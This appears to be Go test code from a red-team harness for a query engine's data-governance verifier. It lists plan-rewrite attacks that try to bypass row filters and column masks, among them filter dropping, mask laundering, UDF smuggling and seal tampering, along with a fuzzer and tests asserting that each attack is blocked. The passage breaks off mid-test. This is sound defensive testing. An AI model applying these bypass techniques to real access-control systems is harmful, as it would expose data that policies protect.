		`INSERT INTO sales VALUES
			(100, CAST('2024-12-01' AS DATE), 'ann', 'US'),
			(200, CAST('2024-12-01' AS DATE), 'ben', 'EU'),
			(50,  CAST('2024-12-02' AS DATE), 'ann', 'US')`,
		"ALTER TABLE sales SET ROW FILTER 'region = ''US'''",
		"ALTER TABLE sales ALTER COLUMN seller SET MASK '''***'''",
		"GRANT SELECT ON sales TO '" + Victim + "'",
	}
	for _, s := range stmts {
		if err := f.Exec(Admin, s); err != nil {
			return fmt.Errorf("redteam: seeding %q: %w", s, err)
		}
	}
	return nil
}

// SentinelDenials returns the SENTINEL_VERIFY deny events recorded so far.
func (f *Fixture) SentinelDenials() []audit.Event {
	return f.Cat.Audit().Events(func(ev audit.Event) bool {
		return ev.Action == "SENTINEL_VERIFY" && ev.Decision == audit.DecisionDeny
	})
}

// Case is one bypass attempt.
type Case struct {
	// Name identifies the case (kebab-case, stable across runs).
	Name string
	// Class is the bypass taxonomy bucket (udf-smuggling, plan-injection,
	// label-dropping, implicit-flow, toctou).
	Class string
	// Description says what the attack tries to do, for drill reports.
	Description string
	// Attack mounts the bypass and returns (fixture, error the victim query
	// died with). fixture may be nil for cases that do not run a server
	// (library-level TOCTOU drills).
	Attack func() (*Fixture, error)
	// WantInvariants must all appear in the denial.
	WantInvariants []sentinel.Invariant
	// WantLabel is the governance label the denial must attribute (""
	// for classes where no label applies, e.g. eFGAC remote pushes).
	WantLabel string
}

// Result is the outcome of one case.
type Result struct {
	Name        string `json:"name"`
	Class       string `json:"class"`
	Description string `json:"description"`
	// Blocked is true when the attack was denied.
	Blocked bool `json:"blocked"`
	// Audited is true when a SENTINEL_VERIFY deny event was recorded.
	Audited bool `json:"audited"`
	// LabelAttributed is true when the denial names WantLabel (vacuously
	// true when the case declares no label).
	LabelAttributed bool `json:"label_attributed"`
	// Error is the denial the victim query died with ("" if none).
	Error string `json:"error,omitempty"`
	// Failures lists assertion failures; empty means the case passed.
	Failures []string `json:"failures,omitempty"`
}

// Passed reports whether the case held the line: blocked, audited, and
// label-attributed.
func (r Result) Passed() bool { return len(r.Failures) == 0 }

// Run mounts one case and checks every assertion.
func Run(c Case) Result {
	res := Result{Name: c.Name, Class: c.Class, Description: c.Description}
	f, err := c.Attack()
	if err != nil {
		res.Blocked = true
		res.Error = err.Error()
	} else {
		res.Failures = append(res.Failures, "bypass NOT blocked: victim query returned rows")
	}
	// The full denial text: the error the victim saw plus every deny audit
	// reason (the error summarizes; the audit trail enumerates every
	// violation, so label attribution is asserted there).
	denialText := res.Error
	if f != nil {
		denials := f.SentinelDenials()
		res.Audited = len(denials) > 0
		if !res.Audited {
			res.Failures = append(res.Failures, "no SENTINEL_VERIFY deny audit event recorded")
		}
		for _, ev := range denials {
			denialText += "\n" + ev.Reason
		}
	} else {
		// Library-level drill (no server plane): the denial itself is the
		// audit surface.
		res.Audited = res.Blocked
	}
	for _, inv := range c.WantInvariants {
		if !strings.Contains(denialText, string(inv)) {
			res.Failures = append(res.Failures,
				fmt.Sprintf("denial does not name invariant %s", inv))
		}
	}
	res.LabelAttributed = c.WantLabel == "" || strings.Contains(denialText, c.WantLabel)
	if !res.LabelAttributed {
		res.Failures = append(res.Failures,
			fmt.Sprintf("denial does not attribute label %s", c.WantLabel))
	}
	return res
}

// RunAll drills the whole corpus.
func RunAll() []Result {
	out := make([]Result, 0, len(Corpus))
	for _, c := range Corpus {
		out = append(out, Run(c))
	}
	return out
}
