package redteam

import (
	"strings"
	"testing"
)

// TestCorpusAllBlocked drills every bypass case: each must be denied, with
// the expected invariants in the denial and — where the case declares a
// governance label — a SENTINEL_VERIFY deny audit event attributing it.
// A failing subtest here is a live governance bypass.
func TestCorpusAllBlocked(t *testing.T) {
	if len(Corpus) < 8 {
		t.Fatalf("corpus has %d cases, want at least 8", len(Corpus))
	}
	for _, c := range Corpus {
		t.Run(c.Name, func(t *testing.T) {
			res := Run(c)
			for _, f := range res.Failures {
				t.Error(f)
			}
			if t.Failed() {
				t.Logf("class=%s blocked=%v audited=%v label=%v\nerror: %s",
					res.Class, res.Blocked, res.Audited, res.LabelAttributed, res.Error)
			}
		})
	}
}

// TestCorpusNamesUnique guards the corpus against copy-paste drift.
func TestCorpusNamesUnique(t *testing.T) {
	seen := map[string]bool{}
	for _, c := range Corpus {
		if seen[c.Name] {
			t.Errorf("duplicate case name %q", c.Name)
		}
		seen[c.Name] = true
		if c.Class == "" || c.Description == "" || c.Attack == nil || len(c.WantInvariants) == 0 {
			t.Errorf("case %q is underspecified", c.Name)
		}
	}
}

// TestCleanBaselinePasses proves the corpus fixture itself is sound: with no
// sabotage rules the victim query succeeds and returns masked, filtered rows.
func TestCleanBaselinePasses(t *testing.T) {
	f := NewFixture("STANDARD")
	if err := f.Seed(); err != nil {
		t.Fatal(err)
	}
	if err := f.Query(Victim, victimSQL); err != nil {
		t.Fatalf("clean victim query failed: %v", err)
	}
	if n := len(f.SentinelDenials()); n != 0 {
		t.Fatalf("clean run recorded %d sentinel denials", n)
	}
}

// TestLabelCoverage asserts the corpus exercises at least 8 label-attributed
// denials across the four bypass classes named by the paper's threat model.
func TestLabelCoverage(t *testing.T) {
	labeled := 0
	classes := map[string]bool{}
	for _, c := range Corpus {
		if c.WantLabel != "" {
			labeled++
		}
		classes[c.Class] = true
	}
	if labeled < 8 {
		t.Errorf("only %d label-attributed cases, want at least 8", labeled)
	}
	for _, want := range []string{"udf-smuggling", "plan-injection", "label-dropping", "toctou"} {
		if !classes[want] {
			t.Errorf("corpus missing bypass class %q", want)
		}
	}
}

// TestResultJSONStable keeps the drill report fields the CLI documents.
func TestResultJSONStable(t *testing.T) {
	res := Run(Corpus[0])
	if res.Name != Corpus[0].Name || !strings.Contains(res.Class, "label-dropping") {
		t.Fatalf("result identity drifted: %+v", res)
	}
}
