package redteam

import (
	"lakeguard/internal/analyzer"
	"lakeguard/internal/catalog"
	"lakeguard/internal/core"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/plan"
	"lakeguard/internal/sentinel"
	"lakeguard/internal/sql"
	"lakeguard/internal/types"
)

// The governance labels the seeded fixture carries (see Fixture.Seed).
const (
	rowLabel  = "row_filter:main.default.sales"
	maskLabel = "column_mask:main.default.sales.seller"
)

const victimSQL = "SELECT amount, seller FROM sales"

// standardAttack seeds a standard-compute fixture with the given sabotage
// rules and runs the victim query through the full server pipeline.
func standardAttack(q string, rules ...optimizer.Rule) func() (*Fixture, error) {
	return func() (*Fixture, error) {
		f := NewFixture(catalog.ComputeStandard, rules...)
		if err := f.Seed(); err != nil {
			return nil, err
		}
		return f, f.Query(Victim, q)
	}
}

// salesTableSchema finds the governed table's full schema inside a plan (the
// sabotage rules need it to forge raw scans).
func salesTableSchema(n plan.Node) *types.Schema {
	var s *types.Schema
	plan.Walk(n, func(x plan.Node) bool {
		if sc, ok := x.(*plan.Scan); ok && sc.Table == "main.default.sales" {
			s = sc.TableSchema
		}
		return true
	})
	return s
}

// widenSeller re-adds the raw seller column to a scan's projection and
// returns the widened scan plus seller's index in its output schema. The
// optimizer prunes seller out of the governed scan (the literal mask never
// references it), so an attack that wants the raw value must first widen the
// scan back — which is by itself legal; the violation is what the attack
// then does with the column. Returns (sc, i) unchanged when seller is
// already scanned.
func widenSeller(sc *plan.Scan) (*plan.Scan, int) {
	if sc == nil {
		return nil, -1
	}
	s := sc.Schema()
	for i := 0; i < s.Len(); i++ {
		if s.Fields[i].Name == "seller" {
			return sc, i
		}
	}
	tblIdx := -1
	for i := 0; i < sc.TableSchema.Len(); i++ {
		if sc.TableSchema.Fields[i].Name == "seller" {
			tblIdx = i
		}
	}
	if tblIdx < 0 || sc.ProjectedCols == nil {
		return sc, -1
	}
	cp := *sc
	cp.ProjectedCols = append(append([]int{}, sc.ProjectedCols...), tblIdx)
	return &cp, len(cp.ProjectedCols) - 1
}

// rawSeller is a bound reference to the raw seller column at index i.
func rawSeller(i int) *plan.BoundRef {
	return &plan.BoundRef{Index: i, Name: "seller", Kind: types.KindString}
}

// sabotageBarrier rewrites the governed barrier's interior: it widens the
// scan to expose raw seller and hands (projection, widened scan, seller
// index) to the attack, which returns the replacement interior.
func sabotageBarrier(build func(proj *plan.Project, sc *plan.Scan, idx int) plan.Node) optimizer.Rule {
	return func(n plan.Node) plan.Node {
		return plan.Transform(n, func(x plan.Node) plan.Node {
			sv, ok := x.(*plan.SecureView)
			if !ok {
				return x
			}
			proj, ok := sv.Child.(*plan.Project)
			if !ok {
				return x
			}
			sc, ok := proj.Child.(*plan.Scan)
			if !ok {
				return x
			}
			wide, idx := widenSeller(sc)
			if idx < 0 {
				return x
			}
			cp := *sv
			cp.Child = build(proj, wide, idx)
			return &cp
		})
	}
}

// Corpus is the bypass corpus: one case per known attack class against the
// plan pipeline. Every case must be blocked by the sentinel with the listed
// invariants and, where a label applies, a label-attributed deny audit event.
var Corpus = []Case{
	{
		Name:  "drop-pushed-policy-filter",
		Class: "label-dropping",
		Description: "A rewrite deletes the row-filter predicate the optimizer " +
			"pushed into the governed scan, so unfiltered rows would flow out.",
		Attack: standardAttack(victimSQL, func(n plan.Node) plan.Node {
			return plan.Transform(n, func(x plan.Node) plan.Node {
				if sc, ok := x.(*plan.Scan); ok && len(sc.PushedFilters) > 0 {
					cp := *sc
					cp.PushedFilters = nil
					return &cp
				}
				return x
			})
		}),
		WantInvariants: []sentinel.Invariant{sentinel.InvRowFilter, sentinel.InvLabelFlow},
		WantLabel:      rowLabel,
	},
	{
		Name:  "mask-replaced-with-identity",
		Class: "mask-laundering",
		Description: "A rewrite swaps the column-mask expression for the raw " +
			"column under the same output name — the mask operator survives " +
			"by name but masks nothing.",
		Attack: standardAttack(victimSQL, sabotageBarrier(
			func(proj *plan.Project, sc *plan.Scan, idx int) plan.Node {
				exprs := append([]plan.Expr{}, proj.Exprs...)
				for i, e := range exprs {
					if plan.OutputName(e) == "seller" {
						exprs[i] = plan.As(rawSeller(idx), "seller")
					}
				}
				return &plan.Project{Exprs: exprs, Child: sc, OutSchema: proj.OutSchema}
			})),
		WantInvariants: []sentinel.Invariant{sentinel.InvColumnMask, sentinel.InvLabelFlow},
		WantLabel:      maskLabel,
	},
	{
		Name:  "alias-copy-laundering",
		Class: "mask-laundering",
		Description: "A rewrite keeps the mask intact but adds a second " +
			"projection item copying the raw masked column under a fresh " +
			"alias — every name-based check passes, the value leaks.",
		Attack: standardAttack(victimSQL, sabotageBarrier(
			func(proj *plan.Project, sc *plan.Scan, idx int) plan.Node {
				exprs := append(append([]plan.Expr{}, proj.Exprs...),
					plan.As(rawSeller(idx), "cc"))
				fields := append(append([]types.Field{}, proj.OutSchema.Fields...),
					types.Field{Name: "cc", Kind: types.KindString, Nullable: true})
				return &plan.Project{Exprs: exprs, Child: sc,
					OutSchema: &types.Schema{Fields: fields}}
			})),
		WantInvariants: []sentinel.Invariant{sentinel.InvLabelFlow},
		WantLabel:      maskLabel,
	},
	{
		Name:  "udf-below-mask",
		Class: "udf-smuggling",
		Description: "A rewrite interposes a foreign-owned UDF predicate " +
			"between the scan and the mask projection, feeding raw masked " +
			"values into sandboxed user code.",
		Attack: standardAttack(victimSQL, sabotageBarrier(
			func(proj *plan.Project, sc *plan.Scan, idx int) plan.Node {
				udf := &plan.UDFCall{Name: "main.default.exfil", Owner: "mallory@corp.com",
					Args: []plan.Expr{rawSeller(idx)}, ResultKind: types.KindBool}
				return &plan.Project{Exprs: proj.Exprs, OutSchema: proj.OutSchema,
					Child: &plan.Filter{Cond: udf, Child: sc}}
			})),
		WantInvariants: []sentinel.Invariant{sentinel.InvTrustDomain, sentinel.InvLabelSink},
		WantLabel:      maskLabel,
	},
	{
		Name:  "udf-into-remote-push",
		Class: "udf-smuggling",
		Description: "On dedicated compute, a rewrite smuggles a user-owned " +
			"UDF into the eFGAC RemoteScan's pushed filters, which would run " +
			"user code on the trusted serverless side.",
		Attack: func() (*Fixture, error) {
			f := NewFixture(catalog.ComputeStandard)
			if err := f.Seed(); err != nil {
				return nil, err
			}
			ded := f.WithDedicated(func(n plan.Node) plan.Node {
				return plan.Transform(n, func(x plan.Node) plan.Node {
					rs, ok := x.(*plan.RemoteScan)
					if !ok {
						return x
					}
					cp := *rs
					cp.PushedFilters = append(append([]plan.Expr{}, rs.PushedFilters...),
						&plan.UDFCall{Name: "main.default.exfil", Owner: "mallory@corp.com",
							Args: []plan.Expr{plan.Col("amount")}, ResultKind: types.KindBool})
					return &cp
				})
			})
			return ded, ded.Query(Victim, victimSQL)
		},
		WantInvariants: []sentinel.Invariant{sentinel.InvRemotePush},
	},
	{
		Name:  "inject-raw-scan",
		Class: "plan-injection",
		Description: "A rewrite unions the governed query with a raw scan of " +
			"the same table outside any policy barrier.",
		Attack: standardAttack(victimSQL, func(n plan.Node) plan.Node {
			ts := salesTableSchema(n)
			if ts == nil {
				return n
			}
			raw := &plan.Project{
				Exprs: []plan.Expr{
					&plan.BoundRef{Index: 0, Name: "amount", Kind: types.KindFloat64},
					&plan.BoundRef{Index: 2, Name: "seller", Kind: types.KindString},
				},
				Child: &plan.Scan{Table: "main.default.sales", TableSchema: ts},
				OutSchema: types.NewSchema(
					types.Field{Name: "amount", Kind: types.KindFloat64},
					types.Field{Name: "seller", Kind: types.KindString}),
			}
			return &plan.Union{L: n, R: raw}
		}),
		WantInvariants: []sentinel.Invariant{sentinel.InvBarrier, sentinel.InvLabelSink},
		WantLabel:      maskLabel,
	},
	{
		Name:  "filter-past-mask",
		Class: "implicit-flow",
		Description: "A rewrite pushes a predicate over the raw masked column " +
			"below the mask projection — the value is never projected, but " +
			"filtering on it leaks it bit by bit.",
		Attack: standardAttack(victimSQL, sabotageBarrier(
			func(proj *plan.Project, sc *plan.Scan, idx int) plan.Node {
				leak := &plan.Binary{Op: plan.OpEq,
					L: rawSeller(idx), R: plan.Lit(types.String("ann")),
					ResultKind: types.KindBool}
				return &plan.Project{Exprs: proj.Exprs, OutSchema: proj.OutSchema,
					Child: &plan.Filter{Cond: leak, Child: sc}}
			})),
		WantInvariants: []sentinel.Invariant{sentinel.InvLabelFlow},
		WantLabel:      maskLabel,
	},
	{
		Name:  "barrier-drop",
		Class: "label-dropping",
		Description: "A rewrite deletes the SecureView barrier and its policy " +
			"operators wholesale, splicing the raw scan into the plan.",
		Attack: standardAttack(victimSQL, func(n plan.Node) plan.Node {
			return plan.Transform(n, func(x plan.Node) plan.Node {
				sv, ok := x.(*plan.SecureView)
				if !ok {
					return x
				}
				ts := salesTableSchema(sv)
				if ts == nil {
					return x
				}
				return &plan.Scan{Table: "main.default.sales", TableSchema: ts}
			})
		}),
		WantInvariants: []sentinel.Invariant{sentinel.InvBarrier, sentinel.InvLabelSink},
		WantLabel:      maskLabel,
	},
	{
		Name:  "observed-pushed-filter",
		Class: "implicit-flow",
		Description: "A rewrite appends a non-policy predicate over the raw " +
			"masked column to the scan's pushed filters — storage-level " +
			"observation of a value the mask should hide.",
		Attack: standardAttack(victimSQL, func(n plan.Node) plan.Node {
			return plan.Transform(n, func(x plan.Node) plan.Node {
				sc, ok := x.(*plan.Scan)
				if !ok || sc.Table != "main.default.sales" {
					return x
				}
				wide, idx := widenSeller(sc)
				if idx < 0 {
					return x
				}
				cp := *wide
				cp.PushedFilters = append(append([]plan.Expr{}, wide.PushedFilters...),
					&plan.Binary{Op: plan.OpEq,
						L: rawSeller(idx), R: plan.Lit(types.String("ann")),
						ResultKind: types.KindBool})
				return &cp
			})
		}),
		WantInvariants: []sentinel.Invariant{sentinel.InvLabelFlow},
		WantLabel:      maskLabel,
	},
	{
		Name:  "barrier-rename",
		Class: "plan-injection",
		Description: "A rewrite renames the policy barrier so obligation " +
			"matching would bind it to the wrong securable.",
		Attack: standardAttack(victimSQL, func(n plan.Node) plan.Node {
			return plan.Transform(n, func(x plan.Node) plan.Node {
				if sv, ok := x.(*plan.SecureView); ok {
					cp := *sv
					cp.Name = "main.default.decoy"
					return &cp
				}
				return x
			})
		}),
		WantInvariants: []sentinel.Invariant{sentinel.InvBarrier},
	},
	{
		Name:  "toctou-seal-tamper",
		Class: "toctou",
		Description: "The plan passes verification, then is mutated in the " +
			"window between verification and execution; the seal's " +
			"re-fingerprint check must refuse to run it.",
		Attack: func() (*Fixture, error) {
			f := NewFixture(catalog.ComputeStandard)
			if err := f.Seed(); err != nil {
				return nil, err
			}
			q, err := sql.ParseQuery(victimSQL)
			if err != nil {
				return nil, err
			}
			a := analyzer.New(f.Cat, catalog.RequestContext{
				User: Victim, Compute: catalog.ComputeStandard, SessionID: "rt-toctou"})
			resolved, err := a.Analyze(q)
			if err != nil {
				return nil, err
			}
			optimized := optimizer.Optimize(resolved, optimizer.DefaultOptions())
			r := sentinel.Verify(resolved, optimized)
			if err := r.Err(); err != nil {
				return nil, err
			}
			sealed, err := sentinel.Seal(optimized, r)
			if err != nil {
				return nil, err
			}
			// The attack: strip the pushed policy filter from the tree that is
			// about to execute, after verification already passed.
			plan.Walk(sealed.Plan, func(x plan.Node) bool {
				if sc, ok := x.(*plan.Scan); ok {
					sc.PushedFilters = nil
				}
				return true
			})
			return nil, sealed.Check()
		},
		WantInvariants: []sentinel.Invariant{sentinel.InvSeal},
	},
}

// WithDedicated builds a dedicated-compute deployment over the same catalog
// (the eFGAC configuration), running the given sabotage rules.
func (f *Fixture) WithDedicated(rules ...optimizer.Rule) *Fixture {
	opts := optimizer.DefaultOptions()
	opts.ExtraRules = rules
	srv := core.NewServer(core.Config{
		Name: "redteam-dedicated", Catalog: f.Cat, Compute: catalog.ComputeDedicated,
		Optimizer: &opts, Parallelism: 1,
	})
	return &Fixture{Cat: f.Cat, Server: srv}
}
