package redteam

import (
	"fmt"
	"math/rand"
	"strings"

	"lakeguard/internal/analyzer"
	"lakeguard/internal/catalog"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/plan"
	"lakeguard/internal/sql"
	"lakeguard/internal/types"
)

// This file is the plan-mutation fuzzer: a seeded generator of governed
// schemas, policies, and victim queries, plus a menu of hostile plan
// mutations. For every generated scenario the sentinel must accept the
// unmutated optimized plan and reject every applicable mutant — the fuzzed
// counterpart of the hand-written Corpus.

// ColSpec is one generated table column.
type ColSpec struct {
	Name string
	// SQLType is the DDL type (DOUBLE or STRING).
	SQLType string
}

// Kind maps the DDL type to the engine kind.
func (c ColSpec) Kind() types.Kind {
	if c.SQLType == "DOUBLE" {
		return types.KindFloat64
	}
	return types.KindString
}

// Scenario is one generated governed deployment: a table with a random
// column roster, a tenant row filter, a literal column mask, and a victim
// query that reads the governed columns.
type Scenario struct {
	Table     string // unqualified table name
	FQN       string // fully qualified (main.default.<Table>)
	Columns   []ColSpec
	FilterCol string // row-filter column
	FilterVal string
	MaskCol   string // masked column
	MaskLit   string
	OutCols   []string // victim query output columns
	Query     string   // victim SELECT
}

// GenerateScenario draws a random scenario from rng. The roster always
// contains amount (DOUBLE), region (STRING), and seller (STRING) — the
// policy anchors — in a shuffled order with optional extra columns, so
// column indices vary across seeds.
func GenerateScenario(rng *rand.Rand) *Scenario {
	cols := []ColSpec{
		{"amount", "DOUBLE"}, {"region", "STRING"}, {"seller", "STRING"},
	}
	for _, extra := range []ColSpec{{"qty", "DOUBLE"}, {"note", "STRING"}, {"score", "DOUBLE"}} {
		if rng.Intn(2) == 1 {
			cols = append(cols, extra)
		}
	}
	rng.Shuffle(len(cols), func(i, j int) { cols[i], cols[j] = cols[j], cols[i] })

	regions := []string{"US", "EU", "APAC"}
	masks := []string{"***", "xxx", "redacted"}
	s := &Scenario{
		Table:     fmt.Sprintf("ft%d", rng.Intn(1_000_000)),
		Columns:   cols,
		FilterCol: "region",
		FilterVal: regions[rng.Intn(len(regions))],
		MaskCol:   "seller",
		MaskLit:   masks[rng.Intn(len(masks))],
	}
	s.FQN = "main.default." + s.Table

	// The victim always reads the masked column and amount; every other
	// column joins the projection with p=1/2.
	out := []string{"amount", s.MaskCol}
	for _, c := range cols {
		if c.Name != "amount" && c.Name != s.MaskCol && rng.Intn(2) == 1 {
			out = append(out, c.Name)
		}
	}
	rng.Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
	s.OutCols = out
	s.Query = "SELECT " + strings.Join(out, ", ") + " FROM " + s.Table
	if rng.Intn(2) == 1 {
		s.Query += fmt.Sprintf(" WHERE amount > %d", rng.Intn(200))
	}
	return s
}

// DDL returns the statements that create, populate, and govern the table,
// including the victim's SELECT grant.
func (s *Scenario) DDL() []string {
	defs := make([]string, len(s.Columns))
	for i, c := range s.Columns {
		defs[i] = c.Name + " " + c.SQLType
	}
	sellers := []string{"ann", "ben", "cho", "dee"}
	regions := []string{"US", "EU", "APAC"}
	var rows []string
	for i := 0; i < 6; i++ {
		vals := make([]string, len(s.Columns))
		for j, c := range s.Columns {
			switch c.Name {
			case "region":
				vals[j] = "'" + regions[i%len(regions)] + "'"
			case "seller":
				vals[j] = "'" + sellers[i%len(sellers)] + "'"
			default:
				if c.SQLType == "DOUBLE" {
					vals[j] = fmt.Sprintf("%d", 25+i*37)
				} else {
					vals[j] = fmt.Sprintf("'n%d'", i)
				}
			}
		}
		rows = append(rows, "("+strings.Join(vals, ", ")+")")
	}
	return []string{
		"CREATE TABLE " + s.Table + " (" + strings.Join(defs, ", ") + ")",
		"INSERT INTO " + s.Table + " VALUES " + strings.Join(rows, ", "),
		fmt.Sprintf("ALTER TABLE %s SET ROW FILTER '%s = ''%s'''", s.Table, s.FilterCol, s.FilterVal),
		fmt.Sprintf("ALTER TABLE %s ALTER COLUMN %s SET MASK '''%s'''", s.Table, s.MaskCol, s.MaskLit),
		"GRANT SELECT ON " + s.Table + " TO '" + Victim + "'",
	}
}

// Seed applies the scenario's DDL to a fixture.
func (s *Scenario) Seed(f *Fixture) error {
	for _, stmt := range s.DDL() {
		if err := f.Exec(Admin, stmt); err != nil {
			return fmt.Errorf("redteam: scenario DDL %q: %w", stmt, err)
		}
	}
	return nil
}

// Plans analyzes and optimizes the victim query against the fixture's
// catalog, returning both trees for sentinel verification.
func (s *Scenario) Plans(f *Fixture) (analyzed, optimized plan.Node, err error) {
	q, err := sql.ParseQuery(s.Query)
	if err != nil {
		return nil, nil, err
	}
	a := analyzer.New(f.Cat, catalog.RequestContext{
		User: Victim, Compute: catalog.ComputeStandard, SessionID: "rt-fuzz"})
	analyzed, err = a.Analyze(q)
	if err != nil {
		return nil, nil, err
	}
	return analyzed, optimizer.Optimize(analyzed, optimizer.DefaultOptions()), nil
}

// Mutation is one hostile plan rewrite. Apply returns the mutated tree and
// whether the mutation was applicable to this plan (inapplicable mutants are
// skipped, not counted as accepts). Apply is copy-on-write: the input tree
// is never modified.
type Mutation struct {
	Name string
	// Description says what governance property the mutation breaks.
	Description string
	Apply       func(s *Scenario, root plan.Node) (plan.Node, bool)
}

// Mutations is the fuzzer's menu. Every applicable mutant must be rejected
// by sentinel.Verify.
var Mutations = []Mutation{
	{
		Name:        "drop-barrier",
		Description: "remove the SecureView barrier, leaving its interior bare",
		Apply: func(s *Scenario, root plan.Node) (plan.Node, bool) {
			applied := false
			out := plan.Transform(root, func(x plan.Node) plan.Node {
				if sv, ok := x.(*plan.SecureView); ok {
					applied = true
					return sv.Child
				}
				return x
			})
			return out, applied
		},
	},
	{
		Name:        "drop-pushed-filters",
		Description: "delete every conjunct pushed into the governed scan",
		Apply: func(s *Scenario, root plan.Node) (plan.Node, bool) {
			applied := false
			out := plan.Transform(root, func(x plan.Node) plan.Node {
				if sc, ok := x.(*plan.Scan); ok && sc.Table == s.FQN && len(sc.PushedFilters) > 0 {
					applied = true
					cp := *sc
					cp.PushedFilters = nil
					return &cp
				}
				return x
			})
			return out, applied
		},
	},
	{
		Name:        "alias-masked-column",
		Description: "re-point the masked projection at the raw column",
		Apply: func(s *Scenario, root plan.Node) (plan.Node, bool) {
			applied := false
			out := plan.Transform(root, func(x plan.Node) plan.Node {
				sv, ok := x.(*plan.SecureView)
				if !ok || applied {
					return x
				}
				proj, ok := sv.Child.(*plan.Project)
				if !ok {
					return x
				}
				sc, ok := proj.Child.(*plan.Scan)
				if !ok {
					return x
				}
				wide, idx := widenColumn(sc, s.MaskCol, s.maskKind())
				if idx < 0 || proj.OutSchema == nil {
					return x
				}
				pos := fieldIndex(proj.OutSchema, s.MaskCol)
				if pos < 0 {
					return x
				}
				exprs := append([]plan.Expr{}, proj.Exprs...)
				exprs[pos] = plan.As(
					&plan.BoundRef{Index: idx, Name: s.MaskCol, Kind: s.maskKind()}, s.MaskCol)
				applied = true
				pcp := *proj
				pcp.Exprs = exprs
				pcp.Child = wide
				svcp := *sv
				svcp.Child = &pcp
				return &svcp
			})
			return out, applied
		},
	},
	{
		Name:        "reorder-policy-filter",
		Description: "hoist the row-filter conjunct above the barrier so unfiltered rows cross it",
		Apply: func(s *Scenario, root plan.Node) (plan.Node, bool) {
			var hoisted plan.Expr
			out := plan.Transform(root, func(x plan.Node) plan.Node {
				sc, ok := x.(*plan.Scan)
				if !ok || sc.Table != s.FQN || hoisted != nil {
					return x
				}
				var keep []plan.Expr
				for _, pf := range sc.PushedFilters {
					if hoisted == nil && exprMentions(pf, s.FilterCol) {
						hoisted = pf
						continue
					}
					keep = append(keep, pf)
				}
				if hoisted == nil {
					return x
				}
				cp := *sc
				cp.PushedFilters = keep
				return &cp
			})
			if hoisted == nil {
				return root, false
			}
			return &plan.Filter{Cond: hoisted, Child: out}, true
		},
	},
	{
		Name:        "inject-udf",
		Description: "evaluate a user-owned UDF on governed rows below the barrier",
		Apply: func(s *Scenario, root plan.Node) (plan.Node, bool) {
			applied := false
			out := plan.Transform(root, func(x plan.Node) plan.Node {
				sv, ok := x.(*plan.SecureView)
				if !ok || applied {
					return x
				}
				proj, ok := sv.Child.(*plan.Project)
				if !ok || proj.Child.Schema().Len() == 0 {
					return x
				}
				in := proj.Child.Schema().Fields[0]
				udf := &plan.UDFCall{
					Name: "main.default.exfil", Owner: "mallory@corp.com",
					Args:       []plan.Expr{&plan.BoundRef{Index: 0, Name: in.Name, Kind: in.Kind}},
					ResultKind: types.KindBool,
				}
				applied = true
				pcp := *proj
				pcp.Child = &plan.Filter{Cond: udf, Child: proj.Child}
				svcp := *sv
				svcp.Child = &pcp
				return &svcp
			})
			return out, applied
		},
	},
	{
		Name:        "inject-raw-scan",
		Description: "union the governed query with an unguarded scan of the same table",
		Apply: func(s *Scenario, root plan.Node) (plan.Node, bool) {
			ts := tableSchemaOf(root, s.FQN)
			rs := root.Schema()
			if ts == nil || rs == nil {
				return root, false
			}
			refs := make([]plan.Expr, rs.Len())
			for i, f := range rs.Fields {
				idx := fieldIndex(ts, f.Name)
				if idx < 0 {
					return root, false
				}
				refs[i] = plan.As(
					&plan.BoundRef{Index: idx, Name: f.Name, Kind: ts.Fields[idx].Kind}, f.Name)
			}
			raw := &plan.Project{
				Exprs:     refs,
				Child:     &plan.Scan{Table: s.FQN, TableSchema: ts},
				OutSchema: rs,
			}
			return &plan.Union{L: root, R: raw}, true
		},
	},
}

func (s *Scenario) maskKind() types.Kind {
	for _, c := range s.Columns {
		if c.Name == s.MaskCol {
			return c.Kind()
		}
	}
	return types.KindString
}

// widenColumn re-adds the named raw column to a scan's projection (the
// optimizer prunes columns a literal mask never references) and returns the
// widened scan plus the column's index in its output schema.
func widenColumn(sc *plan.Scan, name string, kind types.Kind) (*plan.Scan, int) {
	_ = kind
	out := sc.Schema()
	for i := 0; i < out.Len(); i++ {
		if out.Fields[i].Name == name {
			return sc, i
		}
	}
	tblIdx := fieldIndex(sc.TableSchema, name)
	if tblIdx < 0 || sc.ProjectedCols == nil {
		return sc, -1
	}
	cp := *sc
	cp.ProjectedCols = append(append([]int{}, sc.ProjectedCols...), tblIdx)
	return &cp, len(cp.ProjectedCols) - 1
}

// tableSchemaOf finds the governed table's full stored schema inside a plan.
func tableSchemaOf(n plan.Node, fqn string) *types.Schema {
	var s *types.Schema
	plan.Walk(n, func(x plan.Node) bool {
		if sc, ok := x.(*plan.Scan); ok && sc.Table == fqn {
			s = sc.TableSchema
		}
		return true
	})
	return s
}

func fieldIndex(s *types.Schema, name string) int {
	for i, f := range s.Fields {
		if f.Name == name {
			return i
		}
	}
	return -1
}

// exprMentions reports whether the expression references the named column.
func exprMentions(e plan.Expr, col string) bool {
	found := false
	plan.WalkExpr(e, func(x plan.Expr) bool {
		switch t := x.(type) {
		case *plan.BoundRef:
			if t.Name == col {
				found = true
			}
		case *plan.ColumnRef:
			if t.Name == col {
				found = true
			}
		}
		return !found
	})
	return found
}
