package redteam

import (
	"math/rand"
	"reflect"
	"testing"

	"lakeguard/internal/catalog"
	"lakeguard/internal/sentinel"
)

const fuzzSeeds = 25

// TestMutationFuzz is the plan-mutation fuzzer: for each seeded random
// scenario the sentinel must accept the unmutated optimized plan, and every
// applicable mutation from the menu must be rejected. An accepted mutant is
// a verifier soundness hole.
func TestMutationFuzz(t *testing.T) {
	applied := map[string]int{}
	for seed := int64(1); seed <= fuzzSeeds; seed++ {
		rng := rand.New(rand.NewSource(seed))
		s := GenerateScenario(rng)
		f := NewFixture(catalog.ComputeStandard)
		if err := s.Seed(f); err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		analyzed, optimized, err := s.Plans(f)
		if err != nil {
			t.Fatalf("seed %d (%s): %v", seed, s.Query, err)
		}
		if err := sentinel.Verify(analyzed, optimized).Err(); err != nil {
			t.Fatalf("seed %d (%s): unmutated plan rejected: %v", seed, s.Query, err)
		}
		for _, m := range Mutations {
			// Fresh trees per mutation: no mutant may observe another's edits.
			analyzed, optimized, err := s.Plans(f)
			if err != nil {
				t.Fatal(err)
			}
			mutant, ok := m.Apply(s, optimized)
			if !ok {
				continue
			}
			applied[m.Name]++
			report := sentinel.Verify(analyzed, mutant)
			if report.Err() == nil {
